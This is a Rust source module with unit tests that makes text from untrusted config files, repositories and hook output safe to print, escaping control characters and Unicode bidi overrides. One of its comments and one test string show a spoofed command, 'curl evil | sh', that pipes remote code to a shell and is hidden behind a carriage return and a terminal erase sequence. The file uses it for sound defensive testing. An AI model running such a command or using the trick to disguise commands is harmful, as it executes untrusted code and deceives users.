//! Text from untrusted sources (config files, repositories, hook output) made safe to print.
//!
//! A command that holds `\r` or an escape sequence can make a terminal show `cargo fmt --check`
//! while `curl … | sh` is what runs. Everything `trust`, `list`, `check`, `doctor` and `import`
//! print from a file therefore goes through [`escape`]: control characters and the Unicode
//! bidirectional overrides are shown visibly, so what you read is what runs.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Whether `c` must not reach a terminal as is: C0 and C1 controls, DEL, and the bidi controls
/// that reorder what is shown (U+200E/F, U+202A–U+202E, U+2066–U+2069), and U+FEFF.
fn is_unsafe(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

/// `text` with every unsafe character written visibly: `\n`, `\r`, `\t`, `\x1b`, `\u{202e}`.
/// Borrowed when there is nothing to escape (the common case).
pub fn escape(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_unsafe) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if is_unsafe(c) && (c as u32) < 0x100 => {
                let _ = write!(out, "\\x{:02x}", c as u32);
            }
            c if is_unsafe(c) => {
                let _ = write!(out, "\\u{{{:x}}}", c as u32);
            }
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// [`escape`] for a path.
pub fn escape_path(path: &std::path::Path) -> String {
    escape(&path.to_string_lossy()).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_is_borrowed() {
        assert!(matches!(escape("cargo fmt --check"), Cow::Borrowed(_)));
        assert!(matches!(escape("héllo wörld"), Cow::Borrowed(_)));
    }

    #[test]
    fn carriage_return_and_escapes_are_visible() {
        let spoof = "curl evil | sh\r\x1b[2Kcargo fmt --check";
        assert_eq!(escape(spoof), "curl evil | sh\\r\\x1b[2Kcargo fmt --check");
    }

    #[test]
    fn newlines_tabs_c1_and_bidi_are_visible() {
        assert_eq!(escape("a\nb\tc"), "a\\nb\\tc");
        assert_eq!(escape("x\u{9b}y"), "x\\x9by");
        assert_eq!(escape("ab\u{202e}cd"), "ab\\u{202e}cd");
        assert_eq!(escape("\u{7f}"), "\\x7f");
    }
}
